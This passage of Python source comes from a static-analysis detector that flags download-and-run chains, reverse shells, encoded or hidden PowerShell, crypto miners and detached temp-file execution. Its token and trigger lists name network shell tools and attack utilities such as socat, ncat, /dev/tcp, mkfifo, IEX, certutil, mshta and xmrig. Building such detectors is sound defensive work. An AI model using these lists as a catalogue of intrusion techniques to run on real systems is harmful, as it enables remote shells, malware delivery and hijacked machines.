            target = _run_of(nxt, check)
            if target is not None and target.interpreter in _PIPE_INTERPRETERS and target.reads_stdin:
                command.hits.append((PIPE_FETCH, _evidence_of(segment, nxt)))
        command.drops += _download_targets(segment)
        run = _run_of(segment, check)
        if run is not None:
            _note_run(command, segment, run)
        for word in segment.words:
            if depth < 2 and word.quoted and any(c in word.text for c in " |;&"):
                command.merge(_parse_command(word.text, check, depth + 1))
    if depth == 0:
        _fetch_then_run(command, text)
    return command


def _note_run(command: _Command, segment: _Segment, run: _Run) -> None:
    name = run.program.norm
    args = segment.words[run.at + 1 :]
    if name == "chmod":
        modes = [w for w in args if not w.text.startswith("-")]
        if modes and _CHMOD_MODE.fullmatch(modes[0].text):
            command.chmods += modes[1:]
        return
    if name in _MOVERS:
        paths = [w for w in args if not _is_flag(w.text)]
        if len(paths) >= 2:
            command.moves.append((paths[-2], paths[-1]))
        return
    if name in _DOWNLOADERS or name in ("certutil", "bitsadmin", "echo", "printf", "write-host"):
        return
    if segment.op == "&":
        run.detached = True
    command.runs.append(run)
    if name in ("powershell", "pwsh"):
        _powershell_flags(segment, command)


def _powershell_flags(segment: _Segment, command: _Command) -> None:
    lows = [w.text.lower() for w in segment.words]
    evidence = _evidence_of(segment)
    for k, low in enumerate(lows):
        nxt = lows[k + 1] if k + 1 < len(lows) else ""
        if low in _PS_ENC_FLAGS and len(nxt) >= 8:
            command.hits.append((PS_ENCODED, evidence))
        elif low.startswith("-w") and "-windowstyle".startswith(low) and nxt in ("hidden", "h", "1"):
            command.hits.append((PS_HIDDEN, evidence))


def _fetch_then_run(command: _Command, text: str) -> None:
    if not command.drops:
        return
    dropped = [d.text for d in command.drops]
    for source, target in command.moves:
        if any(_same_file(source.text, d) for d in dropped):
            dropped.append(target.text)
    for run in command.runs:
        for word in (run.program, run.script):
            if word is not None and any(_same_file(word.text, d) for d in dropped):
                command.hits.append((FETCH_RUN, _clip_text(text)))
                return


def _regex_hits(text: str, command: _Command) -> None:
    low = text.lower()
    if any(hint in low for hint in ("/dev/", "nc", "socat", "tcpclient", "socket", "telnet")):
        _first_hit(text, _REV_SHELL_PATTERNS, REV_SHELL, command)
    if any(hint in low for hint in _MINER_HINTS):
        _first_hit(text, _MINER_PATTERNS, MINER, command)
    if "iex" in low or "invoke-expression" in low:
        _first_hit(text, _CRADLE_PATTERNS, CRADLE, command)
    if any(hint in low for hint in ("certutil", "bitsadmin", "mshta", "regsvr32")):
        _first_hit(text, _LOLBIN_PATTERNS, LOLBIN, command)
    if ("curl" in low or "wget" in low) and ("$(" in low or "<(" in low or "`" in low):
        match = _SUBSTITUTION_FETCH.search(text)
        if match and _SUBSTITUTION_RUNNER.search(text[max(0, match.start() - 60) : match.start()]):
            command.hits.append((PIPE_FETCH, _around(text, match)))
    if "exec" in low or "eval" in low:
        match = _PY_CODE_FETCH.search(text)
        if match:
            command.hits.append((CODE_FETCH, _around(text, match)))


def _first_hit(text: str, patterns: tuple[re.Pattern[str], ...], kind: str, command: _Command) -> None:
    for pattern in patterns:
        match = pattern.search(text)
        if match:
            command.hits.append((kind, _around(text, match)))
            return


def _around(text: str, match: re.Match[str]) -> str:
    start = max(0, match.start() - 40)
    return _clip_text(text[start : match.end() + 60])


def _clip_text(text: str) -> str:
    text = " ".join(_PLACEHOLDER.sub("{…}", text).split())
    return text if len(text) <= 160 else text[:159] + "…"


def _evidence_of(*segments: _Segment) -> str:
    return _clip_text(" | ".join(" ".join(w.text for w in s.words) for s in segments))


# ---------------------------------------------------------------------------------------------
# Python: where data comes from
# ---------------------------------------------------------------------------------------------

NET = "net"
DEC = "decoded"

_OPENERS = frozenset({"builtins.open", "io.open", "codecs.open", "os.fdopen"})
_TEMPFILES = frozenset(
    {"tempfile.NamedTemporaryFile", "tempfile.TemporaryFile", "tempfile.SpooledTemporaryFile"}
)
_TEMP_CALLS = frozenset(
    {
        "tempfile.gettempdir",
        "tempfile.gettempdirb",
        "tempfile.mkdtemp",
        "tempfile.mkstemp",
        "tempfile.NamedTemporaryFile",
        "tempfile.TemporaryDirectory",
    }
)
_TEMP_ENV = re.compile(r"^(?:TEMP|TMP|TMPDIR|APPDATA|LOCALAPPDATA|PROGRAMDATA|PUBLIC)$", re.I)
_TEMP_VALUE = re.compile(
    r"^(?:/tmp/|/var/tmp/|/dev/shm/)|%(?:temp|tmp|appdata|localappdata|programdata|public)%|"
    r"\$env:(?:temp|tmp|appdata|localappdata)|/appdata/|/users/public/|/programdata/|^~/\.",
    re.I,
)
_RETRIEVERS = frozenset({"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"})
_MOVE_CALLS = frozenset(
    {"os.rename", "os.replace", "os.renames", "shutil.move", "shutil.copy", "shutil.copy2", "shutil.copyfile"}
)
_PATH_WRAPPERS = frozenset(
    {
        "builtins.str",
        "pathlib.Path",
        "pathlib.PurePath",
        "os.path.abspath",
        "os.path.realpath",
        "os.path.normpath",
        "os.path.expanduser",
        "os.path.expandvars",
        "os.fspath",
    }
)
# Calls that start a program or load code from a file but are not in the central PROCESS table.
_EXTRA_RUNNERS = frozenset(
    {
        "os.startfile",
        "asyncio.create_subprocess_shell",
        "asyncio.create_subprocess_exec",
        "os.execle",
        "os.execlpe",
        "os.execvpe",
        "os.spawnle",
        "os.spawnve",
        "os.spawnlpe",
        "os.spawnvpe",
        "runpy.run_path",
        "importlib.util.spec_from_file_location",
    }
)
_SHELL_EXECUTE = re.compile(r"(?:^|\.)(?:ShellExecute(?:Ex)?[AW]?|CreateProcess[AW]?|WinExec)$")
_DETACH_FLAGS = re.compile(
    r"CREATE_NO_WINDOW|DETACHED_PROCESS|CREATE_NEW_PROCESS_GROUP|SW_HIDE|0x0*8000000\b|0x0*8\b|"
    r"\b134217728\b|\b520\b|0x0*208\b",
    re.I,
)
_EXECUTABLE_EXT = (
    ".exe", ".scr", ".bat", ".cmd", ".vbs", ".vbe", ".ps1", ".msi", ".com", ".pif", ".hta", ".jar",
)  # fmt: skip
_EMBEDDED_BINARY = (b"\x7fELF", b"MZ", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe")


@dataclass(frozen=True, slots=True)
class _Ref:
    """How a file path can be recognised again elsewhere in the module."""

    names: frozenset[str] = frozenset()
    value: str | None = None
    dump: str | None = None
    base: str | None = None

    def matches(self, other: _Ref) -> bool:
        if self.names & other.names:
            return True
        if self.dump is not None and self.dump == other.dump:
            return True
        if self.value and other.value:
            return _same_file(self.value, other.value)
        return bool(self.base and other.base and len(self.base) >= 3 and self.base == other.base)


@dataclass(slots=True)
class _Drop:
    ref: _Ref
    labels: frozenset[str]


@dataclass(slots=True)
class _RunSite:
    line: int
    scope: Scope
    context: RunContext
    targets: list[tuple[_Ref, ast.expr | None]]  # program/script refs with their expression
    detached: bool
    evidence: str
    command: _Command | None = None
    code_exprs: list[ast.expr] = field(default_factory=list)  # what runs as code or command
    text: str = ""


class _Flow:
    """Which names of a module hold downloaded or decoded data, per scope."""

    def __init__(self, ctx: PyContext) -> None:
        self.ctx = ctx
        self.fetch_nodes = {id(m.node) for m in ctx.marks_of(Cap.NETWORK_FETCH) if m.node is not None}
        self.decode_nodes = {id(m.node) for m in ctx.marks_of(Cap.DECODE) if m.node is not None}
        self.labels: dict[int, dict[str, set[str]]] = {}
        self.assigned: dict[int, set[str]] = {}
        self.returns: dict[int, set[str]] = {}
        self.dotted: dict[str, set[str]] = {}
        for scope in ctx.facts.scopes:
            names = set(scope.params)
            for targets, _value in scope.assigns:
                names.update(targets)
            self.assigned[id(scope)] = names
            self.labels[id(scope)] = {}
        if self.fetch_nodes or self.decode_nodes or self._code_literals():
            self._propagate()

    def _code_literals(self) -> bool:
        return any(
            _PY_CODE_FETCH.search(lit.value) or lit.value.startswith(("\x7fELF", "MZ"))
            for lit in self.ctx.facts.strings
        )

    def labels_of(self, node: ast.AST, scope: Scope) -> set[str]:
        found: set[str] = set()
        for sub in ast.walk(node):
            if isinstance(sub, ast.Call):
                found |= self._call_labels(sub)
            elif isinstance(sub, ast.Name):
                found |= self._name(sub.id, scope)
            elif isinstance(sub, ast.Attribute):
                found |= self.dotted.get(_dotted(sub), set())
            elif isinstance(sub, ast.Constant):
                found |= _constant_labels(sub.value)
            if len(found) == 2:
                break
        return found

    def _call_labels(self, call: ast.Call) -> set[str]:
        found: set[str] = set()
        if id(call) in self.fetch_nodes:
            found.add(NET)
        if id(call) in self.decode_nodes or (
            isinstance(call.func, ast.Attribute) and call.func.attr in ("decrypt", "b64decode", "decompress")
        ):
            found.add(DEC)
        for function in self.local_functions(call):
            found |= self.returns.get(id(function), set())
        return found

    def _name(self, name: str, scope: Scope) -> set[str]:
        current: Scope | None = scope
        first = True
        while current is not None:
            if (first or current.kind is not ScopeKind.CLASS) and name in self.assigned.get(id(current), ()):
                return self.labels.get(id(current), {}).get(name, set())
            first = False
            current = current.parent
        return set()

    def local_functions(self, call: ast.Call) -> list[Scope]:
        func = call.func
        functions = self.ctx.facts.functions
        if isinstance(func, ast.Name) and func.id in functions:
            return functions[func.id]
        if (
            isinstance(func, ast.Attribute)
            and isinstance(func.value, ast.Name)
            and func.value.id in ("self", "cls")
            and func.attr in functions
        ):
            return [
                f for f in functions[func.attr] if f.parent is not None and f.parent.kind is ScopeKind.CLASS
            ]
        return []

    def _propagate(self) -> None:
        for _round in range(6):
            changed = False
            for scope in self.ctx.facts.scopes:
                changed = self._assigns(scope) or changed
            changed = self._arguments() or changed
            if not changed:
                return

    def _assigns(self, scope: Scope) -> bool:
        changed = False
        table = self.labels[id(scope)]
        for targets, value in scope.assigns:
            found = self.labels_of(value, scope)
            if not found:
                continue
            bases = {t.split(".", 1)[0] for t in targets if "." in t}
            for target in targets:
                if target in bases:
                    continue  # self.data = x labels self.data, not self
                bucket = (
                    self.dotted.setdefault(target, set())
                    if "." in target
                    else table.setdefault(target, set())
                )
                if not found <= bucket:
                    bucket |= found
                    changed = True
        if scope.kind is ScopeKind.FUNCTION and scope.returns:
            found = set().union(*(self.labels_of(r, scope) for r in scope.returns))
            bucket = self.returns.setdefault(id(scope), set())
            if not found <= bucket:
                bucket |= found
                changed = True
        return changed

    def _arguments(self) -> bool:
        """Labels flow from call arguments into the parameters of local functions."""
        changed = False
        for call in self.ctx.facts.calls:
            for function in self.local_functions(call.node):
                params = list(function.params)
                if isinstance(call.node.func, ast.Attribute) and params and params[0] in ("self", "cls"):
                    params = params[1:]
                pairs = list(zip(params, call.node.args, strict=False))
                pairs += [(k.arg, k.value) for k in call.node.keywords if k.arg in params]
                for param, arg in pairs:
                    found = self.labels_of(arg, call.scope)
                    bucket = self.labels[id(function)].setdefault(param, set())
                    if found and not found <= bucket:
                        bucket |= found
                        changed = True
        return changed


def _constant_labels(value: object) -> set[str]:
    if isinstance(value, str) and len(value) > 20 and _PY_CODE_FETCH.search(value):
        return {NET}
    if isinstance(value, bytes) and len(value) > 64 and value.startswith(_EMBEDDED_BINARY):
        return {DEC}
    return set()


def _dotted(node: ast.expr) -> str:
    parts: list[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return ".".join(reversed(parts))
    return "?"


# ---------------------------------------------------------------------------------------------
# Python: commands with placeholders
# ---------------------------------------------------------------------------------------------


class _Skeleton:
    """Static text of a command, with placeholders for the parts that are not static."""

    def __init__(self, ctx: PyContext) -> None:
        self.ctx = ctx
        self.exprs: list[ast.expr] = []

    def placeholder(self, node: ast.expr) -> str:
        self.exprs.append(node)
        return f"{_PH_OPEN}{len(self.exprs) - 1}{_PH_CLOSE}"

    def expr_of(self, word: str) -> ast.expr | None:
        bare = word.strip("\"' ").removeprefix("./").removeprefix(".\\")
        match = _PLACEHOLDER.fullmatch(bare)
        return self.exprs[int(match.group(1))] if match else None

    def text(self, node: ast.expr, depth: int = 0) -> str:
        value = self.ctx.evaluate(node)
        if isinstance(value, str):
            return value
        if isinstance(value, bytes):
            return value.decode("latin-1")
        if isinstance(value, list | tuple) and value and all(isinstance(v, str) for v in value):
            return " ".join(_quote(str(v)) for v in value)
        if depth > 6:
            return self.placeholder(node)
        return self._structure(node, depth)

    def _structure(self, node: ast.expr, depth: int) -> str:
        match node:
            case ast.JoinedStr(values=parts):
                out = []
                for part in parts:
                    if isinstance(part, ast.Constant) and isinstance(part.value, str):
                        out.append(part.value)
                    elif isinstance(part, ast.FormattedValue):
                        out.append(self.text(part.value, depth + 1))
                return "".join(out)
            case ast.BinOp(op=ast.Add(), left=left, right=right):
                return self.text(left, depth + 1) + self.text(right, depth + 1)
            case ast.BinOp(op=ast.Mod(), left=ast.Constant(value=str() as fmt), right=right):
                items = right.elts if isinstance(right, ast.Tuple) else [right]
                pieces = iter([self.text(i, depth + 1) for i in items])
                return re.sub(r"%[-#0 +]*\d*(?:\.\d+)?[sdrif]", lambda _m: next(pieces, ""), fmt)
            case ast.Call(func=ast.Attribute(value=ast.Constant(value=str() as fmt), attr="format")):
                return self._format(fmt, node, depth)
            case ast.Call(
                func=ast.Attribute(value=ast.Constant(value=str() as sep), attr="join"), args=[arg]
            ):
                if isinstance(arg, ast.List | ast.Tuple):
                    return sep.join(self.text(e, depth + 1) for e in arg.elts)
            case ast.List(elts=elts) | ast.Tuple(elts=elts):
                return " ".join(
                    _quote(self.text(e, depth + 1)) for e in elts if not isinstance(e, ast.Starred)
                )
            case ast.Name(id=name):
                bound = self.ctx.facts.binding(name, getattr(node, "lineno", 1 << 30))
                if isinstance(bound, ast.JoinedStr | ast.BinOp | ast.List | ast.Tuple) or (
                    isinstance(bound, ast.Call)
                    and isinstance(bound.func, ast.Attribute)
                    and bound.func.attr in ("format", "join")
                ):
                    return self.text(bound, depth + 1)
        return self.placeholder(node)

    def _format(self, fmt: str, node: ast.Call, depth: int) -> str:
        texts = [self.text(a, depth + 1) for a in node.args]
        named = {k.arg: self.text(k.value, depth + 1) for k in node.keywords if k.arg}
        counter = iter(range(len(texts)))

        def field_value(m: re.Match[str]) -> str:
            key = m.group(1)
            if key == "":
                index = next(counter, -1)
                return texts[index] if 0 <= index < len(texts) else ""
            if key.isdigit():
                return texts[int(key)] if int(key) < len(texts) else ""
            return named.get(key, "")

        return re.sub(r"\{(\w*)[^{}]*\}", field_value, fmt)


def _quote(text: str) -> str:
    if not text or any(c in text for c in " \t|;&\n"):
        return '"' + text.replace('"', "'") + '"'
    return text


# ---------------------------------------------------------------------------------------------
# The detector
# ---------------------------------------------------------------------------------------------

MAX_TEXT_WINDOWS = 100
MAX_TEXT_FINDINGS = 20
_PY_RUN_TOKEN = re.compile(
    r"\b(?:system|popen|Popen|call|check_call|check_output|run|getoutput|startfile|spawn\w*|exec\w*|"
    r"eval|ShellExecute\w*)\s*[\( ]"
)
_PY_LITERAL = re.compile(r"'(?:[^'\\\n]|\\.){0,20000}'|\"(?:[^\"\\\n]|\\.){0,20000}\"")


class ExecutionDetector(Detector):
    rules: ClassVar[tuple[Rule, ...]] = (
        REMOTE_CODE_EXEC,
        DOWNLOAD_AND_RUN,
        FETCH_AND_RUN_COMMAND,
        REVERSE_SHELL,
        ENCODED_POWERSHELL,
        HIDDEN_POWERSHELL,
        DECODED_DROP_AND_RUN,
        WRITE_CHMOD_RUN,
        DETACHED_TEMP_EXEC,
        CRYPTO_MINER,
        COMMAND_STRING,
    )
    # Rare in benign code: worth parsing a file for on their own.
    # ("| sh" is not one: Python's union types put it in every other typed module; a piped
    # download has curl or wget beside it, which are tokens.)
    tokens: ClassVar[tuple[str, ...]] = (
        "DownloadString",
        "DownloadFile",
        "Invoke-WebRequest",
        "Invoke-Expression",
        "certutil",
        "bitsadmin",
        "mshta",
        "xmrig",
        "stratum+",
        "donate-level",
        "startfile",
        "ShellExecute",
        "CREATE_NO_WINDOW",
        "DETACHED_PROCESS",
        "EncodedCommand",
        "WindowStyle",
        "PowerShell",
        "mkfifo",
        "/dev/udp",
        "urlretrieve",
    )
    # Worth it next to a process or network token.
    context_tokens: ClassVar[tuple[str, ...]] = (
        # curl as a command line, not "curly" or the prose "(curl and wget)".
        "curl -",
        "curl http",
        "curl $",
        "'curl",
        '"curl',
        "/curl",
        "iex",
        "IEX",
        "pwsh",
        "Net.WebClient",
        "TCPClient",
        "socat",
        "ncat ",  # not "concat"
        "nohup",
        "start_new_session",
        "pythonw",
    )
    # Every alternative is a token above, a prefilter token or a weak network token.
    strings: ClassVar[re.Pattern[str] | None] = re.compile(
        r"\bcurl\b|wget|/dev/tcp|/dev/udp|powershell|PowerShell|pwsh|DownloadString|DownloadFile|"
        r"Invoke-WebRequest|Invoke-Expression|Net\.WebClient|TCPClient|certutil|bitsadmin|mshta|xmrig|"
        r"stratum\+|donate-level|mkfifo|socat|ncat |nc -e|iex|IEX|urlopen|requests\.get"
    )
    text_kinds: ClassVar[frozenset[FileKind]] = frozenset(
        {FileKind.PYTHON, FileKind.SHELL, FileKind.BATCH, FileKind.POWERSHELL, FileKind.JAVASCRIPT}
    )

    def __init__(self) -> None:
        self._pending: list[StringLit] = []
        self._pending_for = 0

    # -- Python ----------------------------------------------------------------------------

    def on_string(self, lit: StringLit, match: re.Match[str], ctx: PyContext) -> None:
        if self._pending_for != id(ctx):
            self._pending = []
            self._pending_for = id(ctx)
        self._pending.append(lit)

    def on_module(self, ctx: PyContext) -> None:
        literals = self._pending if self._pending_for == id(ctx) else []
        self._pending, self._pending_for = [], 0
        _Analysis(ctx, literals).run()

    # -- text ------------------------------------------------------------------------------

    def on_text(self, ctx: TextContext) -> None:
        decoded = ctx.file.layer > 0
        python = ctx.file.kind is FileKind.PYTHON and not decoded
        reported = 0
        for line, window in _windows(ctx.text, ctx.lower_text()):
            hits = _python_text_hits(window) if python else _command_text_hits(window)
            for offset, kind, evidence, executed in hits:
                if decoded or (python and executed):
                    ctx.report(_HIT_RULES[kind], line + offset, f"{kind}: {evidence}")
                else:
                    ctx.report(COMMAND_STRING, line + offset, f"{kind} ({ctx.file.kind}): {evidence}")
                reported += 1
            if reported >= MAX_TEXT_FINDINGS:
                return


def _command_text_hits(window: str) -> list[tuple[int, str, str, bool]]:
    return [(0, kind, evidence, True) for kind, evidence in _parse_command(window).hits]


def _python_text_hits(window: str) -> list[tuple[int, str, str, bool]]:
    """Python that would not parse: string literals per line; run if the line calls a runner."""
    found: list[tuple[int, str, str, bool]] = []
    for offset, line in enumerate(window.split("\n")):
        if not _TRIGGER.search(line):
            continue
        executed = bool(_PY_RUN_TOKEN.search(line))
        if _PY_CODE_FETCH.search(line):
            found.append((offset, CODE_FETCH, _clip_text(line), True))
        kinds: set[str] = set()
        for literal in _PY_LITERAL.finditer(line):
            body = literal.group(0)[1:-1]
            if _TRIGGER.search(body):
                kinds |= {kind for kind, _ in _parse_command(body).hits if kind != CODE_FETCH}
        found += [(offset, kind, _clip_text(line), executed) for kind in sorted(kinds)]
    return found


# Lower-case words that open a window of text for the command analysis.
_TEXT_TRIGGERS = (
    "curl",
    "wget",
    "/dev/tcp",
    "/dev/udp",
    "powershell",
    "pwsh",
    "downloadstring",
    "downloadfile",
    "invoke-webrequest",
    "invoke-expression",
    "iex ",
    "iex(",
    "|iex",
    "certutil",
    "bitsadmin",
    "mshta",
    "regsvr32",
    "xmrig",
    "stratum+",
    "donate-level",
    "minerd",
    "cpuminer",
    "mkfifo",
    "socat",
    "ncat ",
    "netcat",
    "nc -",
    "tcpclient",
    "urlopen",
    "requests.get",
    "use socket",
)
MAX_WINDOW = 1500


def _windows(text: str, lower: str) -> Iterator[tuple[int, str]]:
    """(first line, text) around trigger words: the trigger's line and three more, bounded.

    ``lower`` is ``text`` in lower case with the same offsets; the first windows in text order count.
    """
    positions = sorted({start for start, _ in hint_index(_TEXT_TRIGGERS).find_all(lower)})
    line, counted, last_end, count = 1, 0, -1, 0
    for position in positions:
        if position < last_end:
            continue
        start = max(text.rfind("\n", 0, position) + 1, position - 600)
        end = position
        for _more in range(4):  # the trigger's line and three more: a download, then a run
            newline = text.find("\n", end + 1)
            if newline == -1:
                end = len(text)
                break
            end = newline
            if end - start > MAX_WINDOW:
                break
        end = min(end, start + MAX_WINDOW)
        line += text.count("\n", counted, start)
        counted = start
        yield line, text[start:end]
        last_end = end
        count += 1
        if count >= MAX_TEXT_WINDOWS:
            return


# ---------------------------------------------------------------------------------------------
# Python module analysis
# ---------------------------------------------------------------------------------------------


class _Analysis:
    def __init__(self, ctx: PyContext, literals: list[StringLit]) -> None:
        self.ctx = ctx
        self.literals = literals
        self.flow: _Flow | None = None
        self.reported: set[tuple[str, int]] = set()

    def report(self, rule: Rule, line: int, evidence: str, context: RunContext) -> None:
        key = (rule.id, line)
        if key not in self.reported:
            self.reported.add(key)
            self.ctx.report(rule, line, evidence, context)

    def run(self) -> None:
        ctx = self.ctx
        processes = ctx.marks_of(Cap.PROCESS)
        execs = ctx.marks_of(Cap.DYNAMIC_EXEC)
        extra = [c for c in ctx.facts.calls if _is_extra_runner(c)]
        if not (processes or execs or extra or self.literals):
            return
        sites = [self._process_site(m.node, m.detail, m.scope, m.local_line, m.context) for m in processes]
        sites += [s for s in (self._extra_site(c) for c in extra) if s is not None]
        if sites or execs:
            self.flow = _Flow(ctx)
            self._remote_code(sites, execs)
            self._dropped(sites, execs)
        for site in sites:
            if site.command is not None:
                for kind, evidence in site.command.hits:
                    self.report(_HIT_RULES[kind], site.line, f"{kind}: {evidence}", site.context)
        self._reverse_shell(sites)
        self._detached_temp(sites)
        self._literals([site.text for site in sites if site.text])

    # -- run sites -------------------------------------------------------------------------

    def _process_site(
        self, node: ast.AST | None, name: str, scope: Scope | None, line: int, context: RunContext
    ) -> _RunSite:
        ctx = self.ctx
        assert isinstance(node, ast.Call)
        args: list[ast.expr] = [a for a in node.args if not isinstance(a, ast.Starred)]
        if name.startswith("os.spawn") and args:
            args = args[1:]
        elif name.startswith("os.exec") and len(args) >= 2 and isinstance(args[1], ast.List | ast.Tuple):
            args = [args[0], *args[1].elts[1:]]
        elif not args and (keyword := _kwarg(node, "args")) is not None:
            args = [keyword]
        skeleton = _Skeleton(ctx)
        parts = [skeleton.text(args[0])] if len(args) == 1 else [_quote(skeleton.text(a)) for a in args]
        text = " ".join(parts)
        command = _parse_command(text, _python_check(ctx, skeleton))
        detached = _detached_kwargs(node) or (name.startswith("os.spawn") and _spawn_detached(node))
        where = scope or ctx.facts.module
        site = _RunSite(
            line,
            where,
            context,
            [],
            detached or any(r.detached for r in command.runs),
            _line_evidence(ctx, line, node),
            command,
            text=text,
        )
        for run in command.runs:
            for word in (run.program, run.script):
                if word is not None:
                    expr = skeleton.expr_of(word.text)
                    site.targets.append(
                        (self.ref(expr, where) if expr is not None else _word_ref(word), expr)
                    )
            for word in (run.program, run.code):
                if word is not None and (expr := skeleton.expr_of(word.text)) is not None:
                    site.code_exprs.append(expr)
            stdin = _kwarg(node, "input")
            if run.interpreter is not None and run.reads_stdin and stdin is not None:
                site.code_exprs.append(stdin)
        return site

    def _extra_site(self, call: CallSite) -> _RunSite | None:
        ctx = self.ctx
        name = call.name or ""
        node = call.node
        context = ctx.context_of(call.scope)
        if name.startswith(("asyncio.create_subprocess", "os.exec", "os.spawn")):
            return self._process_site(node, name, call.scope, call.line, context)
        if _SHELL_EXECUTE.search(name):
            index = 2 if "ShellExecute" in name else 0
            path = node.args[index] if len(node.args) > index else None
            detached = True
        elif name == "importlib.util.spec_from_file_location":
            path, detached = (node.args[1] if len(node.args) > 1 else None), False
        else:
            path, detached = (node.args[0] if node.args else None), name == "os.startfile"
        if path is None:
            return None
        evidence = _line_evidence(ctx, call.line, node)
        return _RunSite(
            call.line, call.scope, context, [(self.ref(path, call.scope), path)], detached, evidence
        )

    def ref(self, node: ast.expr | None, scope: Scope, depth: int = 0) -> _Ref:
        """What identifies the file a path expression names."""
        if node is None:
            return _Ref()
        ctx = self.ctx
        if (
            isinstance(node, ast.Call)
            and len(node.args) == 1
            and ctx.facts_resolve(node.func) in _PATH_WRAPPERS
        ):
            return self.ref(node.args[0], scope, depth + 1)
        names: frozenset[str] = frozenset()
        if isinstance(node, ast.Name):
            names = frozenset({node.id})
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            names = frozenset({node.value.id, _dotted(node)})
        value = ctx.text_value(node)
        if value is None and isinstance(node, ast.Name) and depth < 3:
            bound = _assigned_in(scope, node.id) or ctx.facts.binding(
                node.id, getattr(node, "lineno", 1 << 30)
            )
            if bound is not None and not isinstance(bound, ast.Name):
                inner = self.ref(bound, scope, depth + 1)
                return _Ref(names | inner.names, inner.value, inner.dump, inner.base)
        base = _basename(value) if value else _trailing_name(ctx, node)
        dump = None if isinstance(node, ast.Name) else ast.dump(node)
        return _Ref(names, value, dump, base)

    # -- downloaded data that is executed ----------------------------------------------------

    def _remote_code(self, sites: list[_RunSite], execs: list[Mark]) -> None:
        flow = self.flow
        assert flow is not None
        for mark in execs:
            scope = mark.scope or self.ctx.facts.module
            if mark.payload and NET in flow.labels_of(mark.payload[0], scope):
                evidence = _line_evidence(self.ctx, mark.local_line, mark.node)
                self.report(REMOTE_CODE_EXEC, mark.local_line, evidence, mark.context)
        for site in sites:
            if any(NET in flow.labels_of(expr, site.scope) for expr in site.code_exprs):
                self.report(REMOTE_CODE_EXEC, site.line, site.evidence, site.context)

    # -- files written, then run ---------------------------------------------------------------

    def _dropped(self, sites: list[_RunSite], execs: list[Mark]) -> None:
        drops = list(self._writes())
        for site in sites:
            if site.command is not None:
                drops += [_Drop(_word_ref(w), frozenset({NET})) for w in site.command.drops]
        if not drops:
            return
        moves = self._moves(sites)
        for _round in range(2):
            for source, target in moves:
                labels = [d.labels for d in drops if d.ref.matches(source)]
                if labels and not any(d.ref.matches(target) for d in drops):
                    drops.append(_Drop(target, frozenset().union(*labels)))
        chmods = self._chmods(sites)
        for site in sites + self._exec_sites(execs):
            for ref, _expr in site.targets:
                matched = [d for d in drops if d.ref.matches(ref)]
                if matched and self._report_drop(site, ref, matched, chmods):
                    site.detached = False  # DV509 need not repeat it
                    break

    def _report_drop(self, site: _RunSite, ref: _Ref, matched: list[_Drop], chmods: list[_Ref]) -> bool:
        labels: frozenset[str] = frozenset().union(*(d.labels for d in matched))
        refs = [ref, *(d.ref for d in matched)]
        if NET in labels:
            rule = DOWNLOAD_AND_RUN
        elif DEC in labels:
            rule = DECODED_DROP_AND_RUN
        elif any(c.matches(r) for c in chmods for r in refs):
            rule = WRITE_CHMOD_RUN
        elif site.detached and any(self._temp(r) for r in refs):
            rule = DETACHED_TEMP_EXEC
        else:
            return False
        self.report(rule, site.line, site.evidence, site.context)
        return True

    def _chmods(self, sites: list[_RunSite]) -> list[_Ref]:
        ctx = self.ctx
        chmods = [
            self.ref(m.payload[0], m.scope or ctx.facts.module)
            for m in ctx.marks_of(Cap.MAKE_EXECUTABLE)
            if m.payload
        ]
        for site in sites:
            if site.command is not None:
                chmods += [_word_ref(w) for w in site.command.chmods]
        return chmods

    def _writes(self) -> Iterator[_Drop]:
        flow = self.flow
        assert flow is not None
        for call in self.ctx.facts.calls:
            node = call.node
            name = call.name or ""
            if name in _RETRIEVERS:
                target = node.args[1] if len(node.args) > 1 else None
                target = _kwarg(node, "filename") or _kwarg(node, "out") or target
                if target is not None:
                    yield _Drop(self.ref(target, call.scope), frozenset({NET}))
                continue
            written = self._written(call)
            if written is not None:
                ref, data = written
                yield _Drop(ref, frozenset(flow.labels_of(data, call.scope)))

    def _written(self, call: CallSite) -> tuple[_Ref, ast.expr] | None:
        """(file, data) of a write: f.write(x) on an opened file, Path.write_bytes, copyfileobj."""
        node = call.node
        if not node.args:
            return None
        if call.attr in ("write", "writelines") and isinstance(node.func, ast.Attribute):
            ref = self._opened(node.func.value, call.scope, call.line)
            return (ref, node.args[0]) if ref is not None else None
        if call.attr in ("write_bytes", "write_text") and isinstance(node.func, ast.Attribute):
            receiver = node.func.value
            path = receiver.args[0] if isinstance(receiver, ast.Call) and receiver.args else receiver
            return self.ref(path, call.scope), node.args[0]
        if call.name == "shutil.copyfileobj" and len(node.args) >= 2:
            ref = self._opened(node.args[1], call.scope, call.line)
            return (ref, node.args[0]) if ref is not None else None
        return None

    def _opened(self, receiver: ast.expr, scope: Scope, line: int) -> _Ref | None:
        ctx = self.ctx
        opened: ast.expr | None = receiver
        names: frozenset[str] = frozenset()
        if isinstance(receiver, ast.Name):
            names = frozenset({receiver.id, f"{receiver.id}.name"})
            opened = _assigned_in(scope, receiver.id) or ctx.facts.binding(receiver.id, line + 1)
        if not isinstance(opened, ast.Call):
            return None
        func = ctx.facts_resolve(opened.func)
        if func in _OPENERS and opened.args and _writes_mode(opened):
            return self.ref(opened.args[0], scope)
        if func in _TEMPFILES:
            return _Ref(names)
        return None

    def _moves(self, sites: list[_RunSite]) -> list[tuple[_Ref, _Ref]]:
        moves: list[tuple[_Ref, _Ref]] = []
        for call in self.ctx.facts.calls:
            node = call.node
            if call.name in _MOVE_CALLS and len(node.args) >= 2:
                moves.append((self.ref(node.args[0], call.scope), self.ref(node.args[1], call.scope)))
            elif call.attr in ("rename", "replace") and node.args and isinstance(node.func, ast.Attribute):
                receiver = node.func.value
                source = receiver.args[0] if isinstance(receiver, ast.Call) and receiver.args else receiver
                moves.append((self.ref(source, call.scope), self.ref(node.args[0], call.scope)))
        for site in sites:
            if site.command is not None:
                moves += [(_word_ref(a), _word_ref(b)) for a, b in site.command.moves]
        return moves

    def _exec_sites(self, execs: list[Mark]) -> list[_RunSite]:
        """exec(open(path).read()): the file at ``path`` runs as code."""
        ctx = self.ctx
        sites: list[_RunSite] = []
        for mark in execs:
            if not mark.payload:
                continue
            scope = mark.scope or ctx.facts.module
            for sub in ast.walk(mark.payload[0]):
